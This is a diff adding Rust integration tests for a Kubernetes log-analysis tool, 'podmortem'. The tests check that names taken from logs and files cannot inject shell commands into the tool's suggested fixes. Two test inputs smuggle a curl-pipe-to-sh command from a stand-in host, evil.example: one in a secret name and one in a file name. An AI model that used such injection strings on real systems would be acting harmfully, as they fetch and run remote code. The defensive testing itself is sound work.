@@ -1,0 +1,155 @@
+//! Hostile input never hurts: values from logs and file names cannot inject shell commands into
+//! the suggested fixes, terminal escapes and HTML from logs are neutralised, odd numbers and
+//! timestamps do not panic, symlinks are not followed and archives are bounded.
+//!
+//! Every input is generated here, in a temporary directory, and run through the real binary.
+
+use std::path::Path;
+use std::process::Command;
+
+use tempfile::TempDir;
+
+#[allow(dead_code)] // `code` is read by the tests of later findings.
+struct Run {
+    code: i32,
+    stdout: String,
+    stderr: String,
+}
+
+fn run(dir: &Path, args: &[&str]) -> Run {
+    let out = Command::new(env!("CARGO_BIN_EXE_podmortem"))
+        .args(args)
+        .current_dir(dir)
+        .env("NO_COLOR", "1")
+        .output()
+        .expect("run podmortem");
+    let r = Run {
+        code: out.status.code().unwrap_or(-1),
+        stdout: String::from_utf8_lossy(&out.stdout).into_owned(),
+        stderr: String::from_utf8_lossy(&out.stderr).into_owned(),
+    };
+    assert!(
+        !r.stderr.contains("panicked"),
+        "podmortem {args:?} panicked:\n{}",
+        r.stderr
+    );
+    r
+}
+
+/// The command part of every suggested step: what follows `$ ` in text output, and the lines
+/// of Markdown `sh` blocks.
+fn commands(text: &str, markdown: &str) -> Vec<String> {
+    let mut out: Vec<String> = text
+        .lines()
+        .filter_map(|l| l.split_once("$ ").map(|(_, c)| c.to_string()))
+        .collect();
+    let mut in_sh = false;
+    for l in markdown.lines() {
+        if l.starts_with("```") {
+            in_sh = l.ends_with("sh");
+            continue;
+        }
+        if in_sh {
+            out.push(l.to_string());
+        }
+        if let Some((_, c)) = l.split_once("$ ") {
+            out.push(c.to_string());
+        }
+    }
+    out
+}
+
+fn all_outputs(dir: &Path, file: &str) -> (String, String, String) {
+    let text = run(dir, &["analyze", "-v", file]);
+    let md = run(dir, &["analyze", "-o", "markdown", file]);
+    let json = run(dir, &["analyze", "-o", "json", file]);
+    (text.stdout, md.stdout, json.stdout)
+}
+
+fn pod_json(message: &str) -> String {
+    serde_json::json!({
+        "apiVersion": "v1", "kind": "Pod",
+        "metadata": {"name": "api-1", "namespace": "shop"},
+        "spec": {"containers": [{"name": "app", "image": "shop/api:1"}]},
+        "status": {"containerStatuses": [{
+            "name": "app", "restartCount": 0, "ready": false,
+            "state": {"waiting": {"reason": "CreateContainerConfigError", "message": message}}
+        }]}
+    })
+    .to_string()
+}
+
+#[test]
+fn a_secret_name_from_a_log_cannot_inject_a_command() {
+    let dir = TempDir::new().unwrap();
+    std::fs::write(
+        dir.path().join("pod.json"),
+        pod_json(r#"secret "tenant-a$(curl -s https://evil.example/p.sh|sh)" not found"#),
+    )
+    .unwrap();
+    let (text, md, json) = all_outputs(dir.path(), "pod.json");
+    assert!(text.contains("missing_secret_or_configmap"), "{text}");
+    let cmds = commands(&text, &md);
+    assert!(
+        cmds.iter()
+            .any(|c| c.contains("kubectl get secret -n shop <secret>")),
+        "an invalid name becomes a placeholder: {cmds:#?}"
+    );
+    for c in &cmds {
+        assert!(!c.contains("$(curl") && !c.contains("evil.example"), "{c}");
+    }
+    let v: serde_json::Value = serde_json::from_str(&json).unwrap();
+    for step in v["diagnoses"][0]["remediation"].as_array().unwrap() {
+        let step = step.as_str().unwrap();
+        if let Some((_, cmd)) = step.split_once("$ ") {
+            assert!(!cmd.contains("$(curl"), "{step}");
+        }
+    }
+    // A valid name is pasted as it is.
+    std::fs::write(
+        dir.path().join("pod.json"),
+        pod_json(r#"secret "tenant-a-db" not found"#),
+    )
+    .unwrap();
+    let (text, _, _) = all_outputs(dir.path(), "pod.json");
+    assert!(
+        text.contains("$ kubectl get secret -n shop tenant-a-db"),
+        "{text}"
+    );
+}
+
+const OOM_LOG: &str = "loading catalogue\njava.lang.OutOfMemoryError: Java heap space\n";
+
+#[test]
+fn a_file_name_cannot_inject_a_command() {
+    let dir = TempDir::new().unwrap();
+    let name = "x;curl evil.example|sh;.previous.log";
+    std::fs::write(dir.path().join(name), OOM_LOG).unwrap();
+    let (text, md, _) = all_outputs(dir.path(), name);
+    assert!(text.contains("oom_killed"), "{text}");
+    let cmds = commands(&text, &md);
+    assert!(!cmds.is_empty());
+    for c in &cmds {
+        assert!(!c.contains(";curl") && !c.contains("|sh"), "{c}");
+    }
+    assert!(text.contains("kubectl delete pod <pod>"), "{text}");
+
+    // The same name as a tar member.
+    let mut tgz = Vec::new();
+    {
+        let gz = flate2::write::GzEncoder::new(&mut tgz, flate2::Compression::fast());
+        let mut tar = tar::Builder::new(gz);
+        let mut h = tar::Header::new_gnu();
+        h.set_size(OOM_LOG.len() as u64);
+        h.set_mode(0o644);
+        h.set_cksum();
+        tar.append_data(&mut h, name, OOM_LOG.as_bytes()).unwrap();
+        tar.into_inner().unwrap().finish().unwrap();
+    }
+    std::fs::write(dir.path().join("bundle.tgz"), &tgz).unwrap();
+    let (text, md, _) = all_outputs(dir.path(), "bundle.tgz");
+    assert!(text.contains("oom_killed"), "{text}");
+    for c in commands(&text, &md) {
+        assert!(!c.contains(";curl") && !c.contains("|sh"), "{c}");
+    }
+}
